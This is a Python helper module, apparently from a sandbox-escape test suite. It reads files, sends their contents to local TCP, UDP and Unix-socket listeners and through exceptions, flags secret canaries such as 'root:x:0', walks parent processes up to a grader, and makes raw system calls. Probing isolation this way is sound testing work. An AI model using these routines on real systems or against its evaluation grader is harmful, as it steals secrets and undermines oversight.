"""What every attack may use: ways out for what it has found."""

import os
import re
import socket

import numpy as np

LOOT = []  # what must not have been found


def leak(*loot):
    """Try every way out: print, displays, listeners, and an answer or an exception at last."""
    text = " ".join(x.decode("latin-1") if isinstance(x, bytes) else str(x) for x in loot)
    LOOT.extend(re.findall(r"GRSECRE[T][\w-]*|gives_right_[v]alues|root:[x]:0|CANARY-[A-Z]+", text))
    print("LOOT", text)
    for family, kind, place in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TCP)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP)),
        (socket.AF_UNIX, socket.SOCK_STREAM, UNIX),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0" + ABSTRACT),
    ):
        try:
            s = socket.socket(family, kind)
            s.settimeout(0.2)
            s.connect(place)
            s.send(text.encode())
        except OSError:
            pass
    raise RuntimeError(text)


def steal(path):
    """Read a file and leak it."""
    with open(path, "rb") as f:
        leak("CANARY-STOLEN", f.read(100_000))


def ancestors():
    """This process's parent, and all above it."""
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rpartition(")")[2].split()[1])
        except OSError:
            return
    yield GRADER


def each(*attempts):
    """Go on to the next attempt when one fails; raise what stopped the last."""
    last = None
    for attempt in attempts:
        try:
            attempt()
        except OSError as error:
            last = error
    if last:
        raise last


def raw(number, *arguments):
    """A system call by number; OSError where it fails."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
